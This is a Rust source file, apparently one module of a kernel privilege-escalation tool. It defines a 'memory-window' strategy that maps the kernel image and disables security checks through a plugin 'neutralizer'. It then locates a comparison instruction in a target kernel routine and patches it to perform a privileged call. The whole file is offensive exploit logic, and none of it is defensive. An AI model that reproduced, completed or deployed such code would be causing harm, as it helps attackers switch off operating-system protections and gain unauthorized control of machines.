//! Strategy patching the comparison inside the routine through a mapped kernel window

use log::{info, warn};

use crate::config::Options;
use crate::elevate::Elevation;
use crate::neutralizer::{PluginRegistry, SecurityCheckNeutralizer};
use crate::patcher::cmp::CmpPatcher;
use crate::resolver::{scan, SymbolTableOpener};
use crate::window::{ImageMapper, MappedWindow};

use super::{run_transaction, Strategy, StrategyResult};

/// Maps the kernel image, opportunistically disables security checks, locates the comparison in
/// the target routine through the live symbol table and patches it for one privileged call.
///
/// The mapping and the table are released before [`Strategy::attempt`] returns.
pub struct MemoryWindowStrategy<M, O, R, E> {
    /// Maps the kernel image
    mapper: M,
    /// Opens the live symbol table over the mapping
    opener: O,
    /// Security check plugins
    plugins: R,
    /// Privileged call
    elevation: E,
    /// Routine to patch
    symbol: String,
    /// Bytes of the image to map
    image_window: usize,
    /// Bytes of the routine to scan
    scan_window: usize,
}

impl<M, O, R, E> MemoryWindowStrategy<M, O, R, E>
where
    M: ImageMapper,
    O: SymbolTableOpener,
    R: PluginRegistry,
    E: Elevation,
{
    /// Creates a new [`MemoryWindowStrategy`] using the routine and window sizes in `options`
    pub fn new(mapper: M, opener: O, plugins: R, elevation: E, options: &Options) -> Self {
        Self {
            mapper,
            opener,
            plugins,
            elevation,
            symbol: options.target_symbol.clone(),
            image_window: options.image_window,
            scan_window: options.cmp_scan_window,
        }
    }
}

/// Everything the strategy does while the image is mapped
fn attempt_in_window<O, R, E>(
    window: &mut MappedWindow<'_>,
    opener: &O,
    plugins: &R,
    elevation: &mut E,
    symbol: &str,
    scan_window: usize,
) -> StrategyResult
where
    O: SymbolTableOpener,
    R: PluginRegistry,
    E: Elevation,
{
    let Some(table) = opener.open(window) else {
        warn!("failed to open the live symbol table");
        return StrategyResult::FailedToPatch;
    };

    match SecurityCheckNeutralizer::register(plugins) {
        Some(mut neutralizer) => {
            neutralizer.resolve_symbols(&table);
            let summary = neutralizer.neutralize(window);
            info!(
                "security checks: {} disabled, {} skipped, {} failed",
                summary.applied, summary.skipped, summary.failed
            );
        }
        None => warn!("failed to register security check plugins"),
    }

    let Some(cmp) = scan::locate_cmp(&table, window, symbol, scan_window) else {
        return StrategyResult::FailedToPatch;
    };
    drop(table);

    info!("patching comparison at {cmp}");
    let mut patcher = CmpPatcher::new(window);
    // Safety: `cmp` holds the comparison pattern, which the patcher checks again before writing
    unsafe { run_transaction(&mut patcher, cmp, elevation) }
}

impl<M, O, R, E> Strategy for MemoryWindowStrategy<M, O, R, E>
where
    M: ImageMapper,
    O: SymbolTableOpener,
    R: PluginRegistry,
    E: Elevation,
{
    fn name(&self) -> &'static str {
        "memory-window"
    }

    fn attempt(&mut self) -> StrategyResult {
        info!("attempting memory-window patch");
        let Self {
            mapper,
            opener,
            plugins,
            elevation,
            symbol,
            image_window,
            scan_window,
        } = self;

        let outcome = mapper.with_mapped_image(*image_window, &mut |window: &mut MappedWindow<'_>| {
            attempt_in_window(window, opener, plugins, elevation, symbol, *scan_window)
        });
        outcome.unwrap_or_else(|e| {
            warn!("failed to map the kernel image: {e}");
            StrategyResult::FailedToPatch
        })
    }
}
